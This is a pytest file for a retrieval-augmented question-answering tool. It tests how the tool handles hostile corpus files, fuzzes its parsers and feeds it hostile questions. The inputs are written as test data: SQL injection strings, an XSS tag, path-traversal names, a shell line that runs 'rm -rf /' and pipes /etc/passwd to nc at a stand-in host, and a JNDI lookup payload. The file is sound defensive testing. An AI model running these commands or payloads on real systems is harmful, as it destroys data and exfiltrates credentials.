"""Hostile files, fuzzed loaders/cleaner/chunker/question parser, and hostile questions."""

from __future__ import annotations

import json
import os
import re
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rag.answer.question import analyse_question
from rag.chunking import Chunker, ChunkerConfig
from rag.cli import main as cli_main
from rag.errors import RagError, UsageError
from rag.index import MAX_QUERY_CHARS, Index
from rag.ingest.cleaner import clean_article, strip_markup
from rag.ingest.loaders import discover, load_files
from rag.nlp import analyser, split_sentences
from rag.numbers import numeric_value

GOOD = (
    "Ministers from five coastal states agreed on Tuesday to reopen the northern grain corridor, ending a "
    "blockade that had lasted eleven weeks. The agreement allows up to forty cargo ships a day to pass."
)
MAX_BYTES = 20_000_000


def reasons(report) -> dict[str, str]:
    return {Path(s.path.strip("'\"")).name: s.reason for s in report.skipped}


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, set[str]]:
    """A corpus folder of hostile files plus three good ones; returns (folder, good doc_ids)."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "good_one.txt").write_text(f"Grain corridor reopens\n\n{GOOD}\n", encoding="utf-8")
    (corpus / "good_two.md").write_text(f"# Harbour convoy sails\n\n{GOOD} The convoy sailed at dawn.\n")
    (corpus / "good_three.jsonl").write_text(json.dumps({"id": "good_three", "text": GOOD + " Third."}) + "\n")
    (corpus / "empty.txt").write_bytes(b"")
    (corpus / "blank.txt").write_bytes(b"   \n\n\t  \n")
    (corpus / "binary.txt").write_bytes(bytes(range(256)) * 64)
    (corpus / "invalid_utf8.txt").write_bytes(b"Ministers agreed \xff\xfe\xfa on a deal " * 10)
    mixed = "Caf\u00e9 in UTF-8. ".encode() + "Caf\u00e9 in Latin-1. ".encode("latin-1")
    (corpus / "mixed.txt").write_bytes(mixed * 10)
    (corpus / "utf16.txt").write_bytes(GOOD.encode("utf-16"))
    huge = corpus / "huge.txt"
    with open(huge, "wb") as fh:  # sparse: 200 MB on paper, nothing on disk
        fh.truncate(200 * 1024 * 1024)
    (corpus / "nested.html").write_text("<html><body>" + "<div>" * 10_000 + GOOD + "</div>" * 10_000 + "</body></html>")
    deep_json = "[" * 100_000 + "]" * 100_000
    (corpus / "deep.jsonl").write_text(deep_json + "\n" + json.dumps({"id": "deep_ok", "text": GOOD}) + "\n")
    (corpus / "chrome_only.txt").write_text("Advertisement\nSubscribe now\nRead more\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("The secret password is hunter2 and must not be indexed by anyone.")
    (corpus / "link_out.txt").symlink_to(outside / "secret.txt")
    (corpus / "link_dir").symlink_to(outside, target_is_directory=True)
    (corpus / "link_in.txt").symlink_to(corpus / "good_one.txt")
    (corpus / "broken.txt").symlink_to(tmp_path / "nowhere.txt")
    (corpus / "up..%2F..%2Fetc%2Fpasswd.txt").write_text(f"Escaping names\n\n{GOOD} Dotted.\n")
    (corpus / "..\\..\\win.txt").write_text(GOOD)  # leading dot: ignored like every dotfile
    (corpus / "traversal.jsonl").write_text(json.dumps({"id": "../../etc/passwd", "text": GOOD + " Id."}) + "\n")
    (corpus / "...txt").write_text(GOOD)  # hidden (leading dot): ignored like every dotfile
    (corpus / "ctrl\x1b[31mred.txt").write_text(GOOD)
    (corpus / "bell\x07.txt").write_text(GOOD)
    (corpus / "rtl\u202etxt.exe.txt").write_text(GOOD)
    (corpus / "zero\u200bwidth.txt").write_text(GOOD)
    (corpus / "caf\u00e9_\u4e2d\u6587_\u0430\u0440\u0430\u0431.txt").write_text(f"Unicode name\n\n{GOOD} Unicode.\n")
    (corpus / "payload.exe").write_bytes(b"MZ" + os.urandom(64))
    good = {"good_one", "good_two", "good_three", "deep_ok", "up..%2F..%2Fetc%2Fpasswd", "link_in", "../../etc/passwd",
            "caf\u00e9_\u4e2d\u6587_\u0430\u0440\u0430\u0431"}
    return corpus, good


def test_hostile_corpus_is_skipped_with_reasons(hostile, settings):
    corpus, good = hostile
    t0 = time.perf_counter()
    idx = Index(settings)
    report = idx.add([corpus])
    assert time.perf_counter() - t0 < 60
    why = reasons(report)
    assert set(report.added) == good, (report.added, why)
    assert why["empty.txt"] == "empty file" and why["blank.txt"] == "empty file"
    assert why["binary.txt"] == "binary file, not text"
    assert why["invalid_utf8.txt"].startswith("not valid UTF-8")
    assert why["mixed.txt"].startswith("not valid UTF-8")
    assert "not valid UTF-8" in why["utf16.txt"] or "binary" in why["utf16.txt"]
    assert "over the 20 MB limit" in why["huge.txt"]
    assert "nested.html" in why or "nested" in report.added
    assert why["chrome_only.txt"].startswith("no body text")
    assert why["link_out.txt"] == "symlink outside the corpus folder"
    assert "secret" not in {d.doc_id for d in idx.documents()}
    assert all("hunter2" not in d.text for d in idx.documents())
    assert "control or invisible character" in why[repr("ctrl\x1b[31mred.txt")[1:-1]]
    assert "control or invisible character" in why[repr("bell\x07.txt")[1:-1]]
    assert "control or invisible character" in why[repr("rtl\u202etxt.exe.txt")[1:-1]]
    assert "control or invisible character" in why[repr("zero\u200bwidth.txt")[1:-1]]
    assert why["payload.exe"].startswith("unsupported file type")
    assert any(r == "JSON line is nested too deeply" for r in why.values())
    # the skipped name with an escape sequence is printed as a repr, never raw
    assert all("\x1b" not in s.path for s in report.skipped)


def test_nested_html_does_not_crash(tmp_path):
    page = tmp_path / "nested.html"
    page.write_text("<html><body>" + "<div>" * 10_000 + GOOD + "</div>" * 10_000 + "</body></html>")
    [item] = list(load_files([page], MAX_BYTES))
    # either the text is found or the file is skipped with a reason; never an exception
    assert getattr(item, "text", None) or item.reason


def test_200mb_file_is_skipped_by_size_without_reading(tmp_path, monkeypatch):
    huge = tmp_path / "huge.jsonl"
    with open(huge, "wb") as fh:
        fh.truncate(200 * 1024 * 1024)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("the file was read"))
    [item] = list(load_files([huge], MAX_BYTES))
    assert "over the 20 MB limit" in item.reason


def test_50mb_jsonl_line(tmp_path, make_settings):
    big = tmp_path / "big.jsonl"
    text = ("Ministers agreed to reopen the grain corridor on Tuesday. " * 900_000)[: 50 * 1024 * 1024]
    big.write_text(json.dumps({"id": "big", "text": text}) + "\n" + json.dumps({"id": "small", "text": GOOD}) + "\n")
    # default limit (20 MB): the whole file is skipped by size before it is read
    [item] = list(load_files([big], MAX_BYTES))
    assert "limit" in item.reason
    # with a 60 MB limit the line is parsed; loading it (not embedding) must work
    items = list(load_files([big], 60_000_000))
    assert [getattr(i, "doc_id", None) for i in items] == ["big", "small"]


def test_symlinked_folder_outside_is_not_followed(tmp_path):
    corpus, outside = tmp_path / "c", tmp_path / "o"
    corpus.mkdir()
    outside.mkdir()
    (outside / "a.txt").write_text(GOOD)
    (corpus / "sub").symlink_to(outside, target_is_directory=True)
    files, skipped = discover([corpus])
    assert files == []


def test_symlink_passed_directly_is_allowed(tmp_path):
    """A file the user names explicitly is their choice, even if it is a link."""
    target = tmp_path / "real.txt"
    target.write_text(GOOD)
    (tmp_path / "link.txt").symlink_to(target)
    files, skipped = discover([tmp_path / "link.txt"])
    assert files == [tmp_path / "link.txt"] and not skipped


# --- property tests ---------------------------------------------------------------------------

FUZZ = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@FUZZ
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".txt", ".md", ".html", ".jsonl"]))
def test_loaders_never_raise(tmp_path_factory, data, suffix):
    folder = tmp_path_factory.mktemp("fuzz")
    path = folder / f"f{suffix}"
    path.write_bytes(data)
    for item in load_files([path], MAX_BYTES):
        assert hasattr(item, "reason") or item.text.strip()


@FUZZ
@given(text=st.text(max_size=3000), suffix=st.sampled_from([".txt", ".md", ".html", ".jsonl"]))
def test_loaders_never_raise_on_text(tmp_path_factory, text, suffix):
    path = tmp_path_factory.mktemp("fuzzt") / f"f{suffix}"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    list(load_files([path], MAX_BYTES))


_TOKENS = ["<", ">", "[", "]", "(", ")", "!", ":", "/", "\n", " ", ".", "?", "http://", "https://", "](", "![",
           "<script>", "</script>", "<b>", "<img src=x onerror=alert(1)>", "javascript:", "[x](http://e.x/y)"]
_HOSTILE_TEXT = st.lists(st.one_of(st.text(max_size=12), st.sampled_from(_TOKENS)), max_size=60).map("".join)
_ACTIVE = re.compile(r"<script|https?://|</?[A-Za-z][^<>]*>|!?\[[^\]\n]*\]\([^)\n]*\)", re.IGNORECASE)


@FUZZ
@given(raw=_HOSTILE_TEXT, title=st.one_of(st.none(), st.text(max_size=100)), detect=st.booleans())
def test_cleaner_never_raises(raw, title, detect):
    cleaned = clean_article(raw, title=title, detect_title=detect)
    assert isinstance(cleaned.text, str)
    assert not _ACTIVE.search(cleaned.text), cleaned.text


@FUZZ
@given(raw=_HOSTILE_TEXT)
def test_strip_markup_leaves_nothing_active(raw):
    once = strip_markup(raw)
    assert not _ACTIVE.search(once), once
    assert strip_markup(once) == once


@FUZZ
@given(text=_HOSTILE_TEXT, size=st.integers(50, 800), overlap=st.integers(0, 40))
def test_chunker_never_raises_and_spans_match(text, size, overlap):
    chunker = Chunker(ChunkerConfig(size, overlap))
    for chunk in chunker.split("doc", text):
        assert text[chunk.start : chunk.end] == chunk.text


@FUZZ
@given(q=_HOSTILE_TEXT)
def test_question_parser_never_raises(q):
    info = analyse_question(q, analyser())
    assert info.form in {"wh", "yes_no", "either_or", "keyword"}
    for s, e in split_sentences(q):
        assert 0 <= s < e <= len(q)
    numeric_value(info.doc)


# --- hostile questions ------------------------------------------------------------------------

QUESTIONS = [
    "?!.,;:-",
    "???",
    "\u0645\u0627 \u0647\u064a \u062e\u0637\u0629 \u0627\u0644\u0633\u0644\u0627\u0645\u061f",  # Arabic
    "\u4e4c\u514b\u5170\u519b\u961f\u6709\u591a\u5c11\u4eba\uff1f",  # Chinese
    "\u0421\u043a\u043e\u043b\u044c\u043a\u043e \u0441\u043e\u043b\u0434\u0430\u0442 "
    "\u0432 \u0430\u0440\u043c\u0438\u0438?",  # Cyrillic
    "'; DROP TABLE chunks; --",
    "\" OR 1=1 --",
    "*] GLOB * UNION SELECT text FROM articles --",
    "$(rm -rf /) `reboot` && cat /etc/passwd | nc evil.example 80",
    "%s%s%s%n %x {0.__class__} ${jndi:ldap://evil.example/a}",
    "How large would Ukraine's army be? \x00\x1b[2J",
    "\u202eHow many troops?",
    "a" * MAX_QUERY_CHARS,
    "How many troops " * 120,
]


@pytest.fixture(scope="module")
def seed_hash_index(tmp_path_factory):
    from rag.ingest.seeds import seeds_dir
    from rag.settings import Settings

    root = tmp_path_factory.mktemp("hostile-q")
    idx = Index(Settings(index_dir=root / "idx", cache_dir=root / "cache", embedder="hash"))
    idx.add([seeds_dir()])
    return idx


@pytest.mark.parametrize("question", QUESTIONS, ids=range(len(QUESTIONS)))
def test_hostile_question_answers_or_abstains(seed_hash_index, question):
    answer = seed_hash_index.ask(question)
    assert isinstance(answer.answer, str) and answer.answer
    assert answer.abstained or answer.citations
    seed_hash_index.search(question)
    # the index is untouched by SQL in the question
    assert seed_hash_index.stats()["articles"] == 5


@pytest.mark.parametrize("question", ["", "   \n\t", "x" * 100_000, "x" * (MAX_QUERY_CHARS + 1)])
def test_empty_or_too_long_question_is_a_usage_error(seed_hash_index, question):
    with pytest.raises(UsageError):
        seed_hash_index.ask(question)
    with pytest.raises(UsageError):
        seed_hash_index.search(question)
    with pytest.raises(UsageError):
        list(seed_hash_index.ask_stream(question))


@pytest.mark.parametrize("question", ["", "x" * 100_000, "'; DROP TABLE chunks; --", QUESTIONS[3], "?!.,"])
def test_hostile_question_through_cli(seed_hash_index, capsys, monkeypatch, question):
    monkeypatch.setenv("RAG_EMBEDDER", "hash")
    monkeypatch.setenv("RAG_CACHE_DIR", str(Path(seed_hash_index.settings.cache_dir)))
    for command in ("ask", "search"):
        code = cli_main([command, question, "--json", "--index-dir", str(seed_hash_index.dir)])
        out, err = capsys.readouterr()
        assert "Traceback" not in err
        if not question.strip() or len(question) > MAX_QUERY_CHARS:
            assert code == 2 and len(err.strip().splitlines()) == 1 and err.startswith("error: ")
        else:
            assert code == 0, err
            json.loads(out)


def test_documented_error_types_only():
    assert issubclass(UsageError, RagError)
